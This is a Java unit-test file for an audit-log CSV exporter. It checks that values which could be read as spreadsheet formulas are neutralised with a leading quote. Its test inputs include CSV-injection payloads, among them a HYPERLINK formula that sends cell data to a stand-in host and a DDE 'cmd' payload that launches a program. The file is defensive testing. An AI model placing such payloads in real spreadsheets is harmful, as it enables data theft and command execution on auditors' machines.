package th.or.codi.programme.audit;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.http.converter.json.Jackson2ObjectMapperBuilder;

/**
 * CSV injection (OWASP): a value a person typed into a form ends up in a cell of the audit trail's
 * CSV, which auditors open in Excel. Whatever a spreadsheet could take for the start of a formula
 * is prefixed with ' and shown as text.
 */
class AuditExportTest {

  /** Configured as Spring Boot configures the application's. */
  private static final ObjectMapper MAPPER = Jackson2ObjectMapperBuilder.json().build();

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"คลิก\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝HYPERLINK(\"http://evil.example\")",
        "＋1",
        "－1",
        "＠SUM(A1)"
      })
  void aCellAFormulaCouldStartWithIsPrefixedWithAQuote(String typed) {
    String cell = AuditExport.cell(typed);
    String unquoted =
        cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
    assertThat(unquoted).isEqualTo("'" + typed);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "ศาลาประชาคมจังหวัด",
        "TH-60/2562-1",
        "25000",
        "a=b",
        "ok - fine",
        "'quoted",
        " =1"
      })
  void otherCellsAreLeftAsTheyAre(String typed) {
    assertThat(AuditExport.cell(typed)).isEqualTo(typed);
  }

  @ParameterizedTest
  @ValueSource(strings = {"=1,2", "\r\n=1", "-\"x\""})
  void aGuardedCellIsStillQuotedPerRfc4180(String typed) {
    assertThat(AuditExport.cell(typed)).isEqualTo("\"'" + typed.replace("\"", "\"\"") + "\"");
  }

  @org.junit.jupiter.api.Test
  void aThaiValueWithACommaAQuoteAndANewlineReadsBackAsOneCell() throws Exception {
    String typed = "ศาลาประชาคม, อ.เมือง \"นครสวรรค์\"\nชั้น 2";
    AuditEntry entry =
        new AuditEntry(
            Instant.parse("2026-01-02T03:04:05Z"),
            AuditKind.values()[0],
            "codi",
            "TH-60/2562-1",
            "TH-60",
            "นครสวรรค์",
            1L,
            "provincialPipeline",
            "กระบวนการจังหวัด",
            "pi-1",
            "Activity_X",
            null, // no activity name: still an empty cell, the columns after it stay in place
            "task-1",
            typed,
            Map.of());
    String csv =
        new AuditExport(MAPPER)
            .csv(
                List.of(entry),
                Map.of("q", "x"),
                "auditor",
                Instant.parse("2026-01-02T03:04:05Z"),
                true);

    assertThat(csv)
        .startsWith(AuditExport.BOM)
        .contains("\r\n\r\n" + String.join(",", AuditExport.COLUMNS) + "\r\n");
    assertThat(csv).contains(",\"ศาลาประชาคม, อ.เมือง \"\"นครสวรรค์\"\"\nชั้น 2\",");
    List<String[]> rows = new ArrayList<>();
    try (MappingIterator<String[]> it =
        new CsvMapper()
            .enable(CsvParser.Feature.WRAP_AS_ARRAY)
            .readerFor(String[].class)
            .readValues(csv.substring(AuditExport.BOM.length()))) {
      it.forEachRemaining(rows::add);
    }
    assertThat(rows.get(3)).containsExactly("จำนวนรายการ / Entries", "1 (ตัดทอน / truncated)");
    String[] header = rows.get(rows.size() - 2);
    String[] row = rows.get(rows.size() - 1);
    assertThat(header).containsExactly(AuditExport.COLUMNS);
    assertThat(row).hasSameSizeAs(header);
    assertThat(row[14]).isEqualTo(typed);
    assertThat(row[5]).isEqualTo("นครสวรรค์");
    assertThat(row[11]).isEmpty();
    assertThat(row[12]).isEqualTo("Activity_X");
  }

  @org.junit.jupiter.api.Test
  void theWholeFileGuardsEveryColumnAndTheHeader() {
    AuditEntry entry =
        new AuditEntry(
            Instant.parse("2026-01-02T03:04:05Z"),
            AuditKind.values()[0],
            "=actor",
            "\tTH-60/2562-1",
            "TH-60",
            "＝นครสวรรค์",
            1L,
            "provincialPipeline",
            "@process",
            "pi-1",
            "Activity_X",
            "+activity",
            "task-1",
            "-detail",
            Map.of("venue", "=cmd"));
    String csv =
        new AuditExport(MAPPER)
            .csv(
                List.of(entry),
                Map.of("q", "x"),
                "=exporter",
                Instant.parse("2026-01-02T03:04:05Z"),
                false);
    assertThat(csv)
        .contains(",'=actor,")
        .contains(",'＝นครสวรรค์,")
        .contains(",'@process,")
        .contains(",'+activity,")
        .contains(",'-detail,")
        .contains(",'=exporter")
        .contains("\t")
        .doesNotContain(",=")
        .doesNotContain(",\t");
  }
}
